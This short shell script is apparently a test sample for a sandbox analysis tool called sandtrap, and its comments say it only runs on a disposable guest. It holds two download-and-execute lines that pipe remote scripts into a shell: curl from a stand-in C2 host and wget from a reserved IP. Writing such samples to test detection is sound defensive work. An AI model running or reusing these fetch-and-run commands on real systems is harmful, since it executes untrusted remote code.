#!/bin/sh
# Download and run without touching disk: curl | sh and wget -O- | bash from a C2 name.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
curl -fsSL http://get.c2.example/install.sh | sh
wget -q -T 2 -t 1 -O- http://198.51.100.23/stage2.sh | bash
echo done
